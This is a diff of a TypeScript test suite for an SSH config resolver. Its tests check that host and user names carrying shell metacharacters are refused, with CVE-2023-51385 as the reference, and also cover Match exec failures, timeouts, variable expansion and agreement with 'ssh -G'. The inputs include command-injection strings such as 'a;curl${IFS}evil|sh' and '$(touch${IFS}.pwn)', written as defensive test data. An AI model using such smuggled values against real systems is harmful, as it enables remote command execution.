@@ -133,6 +133,24 @@ describe('ssh_config', () => {
     expect(() => parseSshUri('ssh://host:99999')).toThrow(/user@host:port/);
   });
 
+  it('refuses host and user names with shell metacharacters or control characters, as OpenSSH 9.6 does (CVE-2023-51385)', () => {
+    const refused = (f: () => unknown, what: string) => expect(f).toThrow(expect.objectContaining({
+      code: 'E_TARGET_INVALID', message: expect.stringMatching(new RegExp(`^The SSH ${what} name .* Tapscope refuses it, as OpenSSH 9.6 does`)),
+    }));
+    for (const host of ['a;curl${IFS}evil|sh', 'a`id`', 'x$y', "a'b", 'a"b', 'a\\b', 'a&b', 'a<b', 'a>b', 'a(b)', 'a{b}', 'a,b', '-oProxyCommand=x', 'a\tb', 'a\x01b', 'a\x7fb']) {
+      refused(() => parseJump(host), 'host');
+      refused(() => parseSshUri(`ssh://u@${host}`), 'host');
+    }
+    for (const user of ['$(touch${IFS}.pwn)', 'a;b', 'a`id`', "a'b", 'a|b', '-oX', 'a -x', 'trailing\\', 'a\nb', 'a\x1bb']) {
+      refused(() => parseJump(`${encodeURIComponent(user)}@prod`), 'user');
+    }
+    refused(() => parseSshUri('ssh://$(touch${IFS}.pwn)@prod'), 'user');
+    expect(() => parseSshUri('ssh://a;curl${IFS}evil|sh')).toThrow('The SSH host name "a;curl${IFS}evil|sh" contains ";"');
+    // What OpenSSH 9.6 accepts: IPv6 with a zone, $ and \ and spaces in a user name (Windows accounts).
+    expect(parseJump('fe80::1%eth0')).toEqual({ host: 'fe80::1%eth0', user: null, port: null });
+    expect(parseJump(`${encodeURIComponent('CORP\\ann b$')}@web-01.example:22`)).toEqual({ host: 'web-01.example', user: 'CORP\\ann b$', port: 22 });
+  });
+
   it('derives the excluded endpoint from $SSH_CONNECTION as the server sees it', () => {
     expect(excludeFromSshConnection('10.0.0.1 51234 10.0.0.2 22')).toEqual({ client: '10.0.0.1:51234', server: '10.0.0.2:22' });
     expect(excludeFromSshConnection('fd00::1 40000 fd00::2 2222')).toEqual({ client: '[fd00::1]:40000', server: '[fd00::2]:2222' });
@@ -261,7 +279,7 @@ describe('Match', () => {
     expect(() => resolve(['Match exec "echo %Z"', '  User u'], 'x')).toThrow(/\/cfg line 1: Match exec uses the token %Z/);
   });
 
-  it('runs an exec only while the criteria before it on the line hold, and a shell that cannot start does not match', () => {
+  it('runs an exec only while the criteria before it on the line hold', () => {
     withDir((dir) => {
       const lines = [
         `Match originalhost other exec "touch ${dir}/skipped"`, '  User u1',
@@ -270,15 +288,77 @@ describe('Match', () => {
       expect(resolve(lines, 'here').user).toBe('u2');
       expect(existsSync(join(dir, 'ran'))).toBe(true);
       expect(existsSync(join(dir, 'skipped'))).toBe(false);
-      const saved = process.env.SHELL;
-      try {
-        process.env.SHELL = join(dir, 'no-such-shell');
-        expect(resolve(['Match exec true', '  User u3'], 'here').user).toBe(me);
-      } finally {
-        if (saved === undefined) delete process.env.SHELL;
-        else process.env.SHELL = saved;
-      }
-      expect(resolve(['Match exec true', '  User u3'], 'here').user).toBe('u3');
+    });
+  });
+
+  const withShell = (shell: string | undefined, fn: () => void): void => {
+    const saved = process.env.SHELL;
+    try {
+      if (shell === undefined) delete process.env.SHELL;
+      else process.env.SHELL = shell;
+      fn();
+    } finally {
+      if (saved === undefined) delete process.env.SHELL;
+      else process.env.SHELL = saved;
+    }
+  };
+
+  it('refuses to resolve, as ssh(1) does (fatal), when an exec cannot run or is killed by a signal, naming file, line and command', () => {
+    const failed = (why: string) => expect.objectContaining({
+      code: 'E_TARGET_INVALID', message: expect.stringMatching(new RegExp(`^/cfg line 2: Match exec '.*' ${why}; tapscope does not resolve the host`)),
+    });
+    const lines = ['Host *', 'Match !exec "on-vpn-check"', '  ProxyJump bastion'];
+    withDir((dir) => {
+      withShell(join(dir, 'no-such-shell'), () => {
+        expect(() => resolve(lines, 'here')).toThrow(failed('cannot run: the shell .*no-such-shell did not start \\(ENOENT\\)'));
+        // An exec that is not run (a criterion before it fails) needs no shell.
+        expect(resolve(['Match originalhost other exec true', '  User u1'], 'here').user).toBe(me);
+      });
+    });
+    withShell('', () => expect(() => resolve(lines, 'here')).toThrow(failed('cannot run: \\$SHELL is empty')));
+    withShell(undefined, () => expect(resolve(['Match exec "test -n \\"$0\\""', '  User sh'], 'here').user).toBe('sh'));
+    for (const negation of ['', '!']) {
+      expect(() => resolve(['', `Match ${negation}exec "kill -TERM $$"`, '  User u'], 'here')).toThrow(failed('was killed by SIGTERM'));
+    }
+  });
+
+  it('refuses to resolve when an exec outlasts 10 s', () => {
+    const started = Date.now();
+    expect(() => resolve(['', 'Match exec "sleep 30"', '  User u'], 'here')).toThrow(/^\/cfg line 2: Match exec 'sleep 30' did not finish within 10 s/);
+    expect(Date.now() - started).toBeLessThan(20_000);
+  }, 25_000);
+
+  it('does not run a Match exec with a host or user name a shell would read: resolving refuses the name first', () => {
+    withDir((dir) => {
+      const lines = ['Match exec "true %h %n %r"', '  User u'];
+      expect(() => resolve(lines, `x;touch\${IFS}${dir}/pwned-host`)).toThrow(/^The SSH host name "x;touch\$\{IFS\}.*" contains ";"/);
+      expect(() => resolve(lines, 'x', { user: `u;touch\${IFS}${dir}/pwned-user` })).toThrow(/^The SSH user name "u;touch/);
+      // A ProxyJump host is checked as well: ssh(1) hands it to another ssh on the command line.
+      expect(() => resolve(['Host x', `  ProxyJump j;touch\${IFS}${dir}/pwned-jump`], 'x')).toThrow(/^The SSH host name "j;touch/);
+      expect(existsSync(join(dir, 'pwned-host')) || existsSync(join(dir, 'pwned-user'))).toBe(false);
+    });
+  });
+
+  it('takes criterion=value in a Match line, as readconf.c does', () => {
+    const lines = ['Match host=y', '  Port 3', 'Match host=y,z user=me', '  Port 4', 'Match originalhost=z exec="true"', '  User zed'];
+    expect(resolve(lines, 'y').port).toBe(3);
+    expect(resolve(lines, 'z', { user: 'me' })).toMatchObject({ port: 4, user: 'me' });
+    expect(resolve(lines, 'z')).toMatchObject({ port: 22, user: 'zed' });
+    expect(tokenizeLine('IdentityFile=/a=b')).toEqual(['IdentityFile', '/a=b']);
+  });
+
+  it('lower-cases the resolved host, as ssh(1) does after reading the config; the first pass sees it as written', () => {
+    withDir((dir) => {
+      const lines = [
+        'Host x', '  HostName FOO.Example',
+        `Match exec "echo pass %h %n >> ${dir}/seen"`, '  UserKnownHostsFile /kh/%h',
+        `Match final exec "echo final %h %n >> ${dir}/seen"`, '  User u',
+        'Host foo.example', '  Port 2',
+      ];
+      expect(resolve(lines, 'x')).toMatchObject({ hostName: 'foo.example', port: 2, userKnownHostsFiles: ['/kh/foo.example'] });
+      expect(readFileSync(join(dir, 'seen'), 'utf8')).toBe('pass FOO.Example x\npass foo.example x\nfinal foo.example x\n');
+      expect(resolve(['Host y', '  HostName BAR.Example'], 'y').hostName).toBe('bar.example');
+      expect(resolve([], 'BAZ').hostName).toBe('baz');
     });
   });
 
@@ -295,8 +375,20 @@ describe('Match', () => {
       hostName: 'real.example', port: 2201, user: 'canon', identityFiles: ['/keys/first-pass', '/keys/both', '/keys/real'],
     });
     // Without a `final` criterion there is no second pass: neither canonical nor the Host line for the resolved name apply.
-    const noFinal = lines.map((l) => l.replace('Match final host', 'Match host'));
+    const noFinal = lines.map((l) => l.replace('Match final host', 'Match host').replace('Match !final', 'Match all'));
     expect(resolve(noFinal, 'alias')).toMatchObject({ port: 2201, user: me, identityFiles: ['/keys/first-pass', '/keys/both'] });
+  });
+
+  it('reads the config again for `Match !final` too: any `final` criterion asks for the final pass, as in readconf.c', () => {
+    const cases: Array<[string, { user: string; port: number }]> = [
+      ['Match !final', { user: 'firstpass', port: 2222 }],
+      ['Match final', { user: 'firstpass', port: 2222 }],
+      ['Match originalhost nomatch !final', { user: me, port: 2222 }],
+      ['Match originalhost nomatch', { user: me, port: 22 }],
+    ];
+    for (const [line, want] of cases) {
+      expect(resolve([line, '  User firstpass', 'Match canonical', '  Port 2222'], 'somehost')).toMatchObject(want);
+    }
   });
 
   it('refuses criteria it cannot evaluate, naming the file, the line and the criterion', () => {
@@ -342,6 +434,57 @@ describe('Match', () => {
   });
 });
 
+describe('${VAR} and %-tokens in path options', () => {
+  const resolve = (lines: string[], alias: string) => resolveHost(parseSshConfig(lines.join('\n'), { file: '/cfg' }), alias);
+  const withEnv = (name: string, value: string | undefined, fn: () => void): void => {
+    const saved = process.env[name];
+    try {
+      if (value === undefined) delete process.env[name];
+      else process.env[name] = value;
+      fn();
+    } finally {
+      if (saved === undefined) delete process.env[name];
+      else process.env[name] = saved;
+    }
+  };
+
+  it('expands ${VAR} from the environment in UserKnownHostsFile, IdentityFile and IdentityAgent, with the tokens, in one pass', () => {
+    withEnv('TAPSCOPE_T_DIR', '/env/dir%h', () => {
+      const r = resolve([
+        'Host web', '  HostName Web.Example',
+        '  UserKnownHostsFile ${TAPSCOPE_T_DIR}/kh-%h ~/kh2',
+        '  IdentityFile ${TAPSCOPE_T_DIR}/id_%r',
+        '  IdentityAgent ${TAPSCOPE_T_DIR}/agent.sock',
+        '  User ann',
+      ], 'web');
+      // (a value from the environment is not expanded again: its %h stays)
+      expect(r.userKnownHostsFiles).toEqual(['/env/dir%h/kh-web.example', join(homedir(), 'kh2')]);
+      expect(r.identityFiles).toEqual(['/env/dir%h/id_ann']);
+      expect(r.identityAgent).toBe('/env/dir%h/agent.sock');
+    });
+    expect(resolve(['IdentityAgent $SSH_AUTH_SOCK'], 'h').identityAgent).toBe('$SSH_AUTH_SOCK');
+    expect(resolve(['IdentityAgent none'], 'h').identityAgent).toBe('none');
+    expect(resolve(['UserKnownHostsFile /kh/$HOME/100%%'], 'h').userKnownHostsFiles).toEqual(['/kh/$HOME/100%']);
+  });
+
+  it('refuses an unset variable, an unclosed ${ and an unknown token, as ssh(1) does (fatal)', () => {
+    withEnv('TAPSCOPE_T_UNSET', undefined, () => {
+      const bad: Array<[string, RegExp]> = [
+        ['UserKnownHostsFile ${TAPSCOPE_T_UNSET}/kh', /^ssh config: UserKnownHostsFile \$\{TAPSCOPE_T_UNSET\}\/kh: the environment variable TAPSCOPE_T_UNSET is not set/],
+        ['IdentityFile /k/${HOME', /^ssh config: IdentityFile \/k\/\$\{HOME: \$\{HOME has no closing "\}"/],
+        ['IdentityFile /k/${}', /"\$\{\}" names no environment variable/],
+        ['UserKnownHostsFile /kh/%Z', /^ssh config: UserKnownHostsFile \/kh\/%Z: the token %Z is not one ssh\(1\) expands there/],
+        ['IdentityFile /k/%j', /the token %j/],
+        ['IdentityAgent /a/${TAPSCOPE_T_UNSET}', /^ssh config: IdentityAgent/],
+        ['IdentityFile /k/%', /a "%" ends it/],
+      ];
+      for (const [line, message] of bad) {
+        expect(() => resolve([line], 'h')).toThrow(expect.objectContaining({ code: 'E_TARGET_INVALID', message: expect.stringMatching(message) }));
+      }
+    });
+  });
+});
+
 describe('ssh -G as the oracle', () => {
   const hasSsh = (() => {
     try {
@@ -351,6 +494,38 @@ describe('ssh -G as the oracle', () => {
       return false;
     }
   })();
+
+  it.skipIf(!hasSsh)('agrees with `ssh -G` on !final, criterion=value, the host\'s case, ${VAR} in UserKnownHostsFile and IdentityAgent, and a killed exec', () => {
+    const dir = mkdtempSync(join(tmpdir(), 'tss-oracle2-'));
+    const saved = process.env.TAPSCOPE_T_KH;
+    process.env.TAPSCOPE_T_KH = join(dir, 'kh');
+    try {
+      const configs: Array<[string[], string]> = [
+        [['Match !final', '  User firstpass', 'Match canonical', '  Port 2222'], 'somehost'],
+        [['Match host=y', '  Port 3', 'Match host=y,z originalhost=y', '  User four'], 'y'],
+        [['Host x', '  HostName FOO.Example', 'Match final host foo.example', '  Port 2', '  UserKnownHostsFile ${TAPSCOPE_T_KH}/%h %d/%n'], 'x'],
+        [['Host x', '  HostName FOO.Example', '  IdentityAgent ${TAPSCOPE_T_KH}/agent-%h-%r', '  UserKnownHostsFile ${TAPSCOPE_T_KH}'], 'x'],
+        [['UserKnownHostsFile ~/kh/%h'], 'UPPER.Example'],
+      ];
+      for (const [[...lines], alias] of configs) {
+        const file = join(dir, 'config');
+        writeFileSync(file, `${lines.join('\n')}\n`);
+        const out = execFileSync('ssh', ['-G', '-F', file, alias], { stdio: ['ignore', 'pipe', 'pipe'] }).toString();
+        const field = (k: string) => out.split('\n').find((l) => l.startsWith(`${k} `))?.slice(k.length + 1);
+        const r = resolveHost(parseSshConfig(lines.join('\n'), { file }), alias);
+        expect({ hostname: r.hostName, user: r.user, port: String(r.port), kh: r.userKnownHostsFiles?.join(' ') ?? field('userknownhostsfile'), agent: r.identityAgent ?? field('identityagent') })
+          .toEqual({ hostname: field('hostname'), user: field('user'), port: field('port'), kh: field('userknownhostsfile'), agent: field('identityagent') });
+      }
+      const file = join(dir, 'config');
+      writeFileSync(file, 'Host *\nMatch exec "kill -TERM $$"\n  User u\n');
+      expect(() => execFileSync('ssh', ['-G', '-F', file, 'h'], { stdio: ['ignore', 'pipe', 'pipe'] })).toThrow(/line 2: match exec 'kill -TERM \$\$' error/);
+      expect(() => resolveHost(parseSshConfig('Host *\nMatch exec "kill -TERM $$"\n  User u\n', { file }), 'h')).toThrow(`${file} line 2: Match exec 'kill -TERM $$' was killed by SIGTERM`);
+    } finally {
+      if (saved === undefined) delete process.env.TAPSCOPE_T_KH;
+      else process.env.TAPSCOPE_T_KH = saved;
+      rmSync(dir, { recursive: true, force: true });
+    }
+  });
 
   it.skipIf(!hasSsh)('resolves hostname, user, port, identity files, ProxyJump and exec tokens as `ssh -G` does for a config using Match', () => {
     const me = userInfo().username;
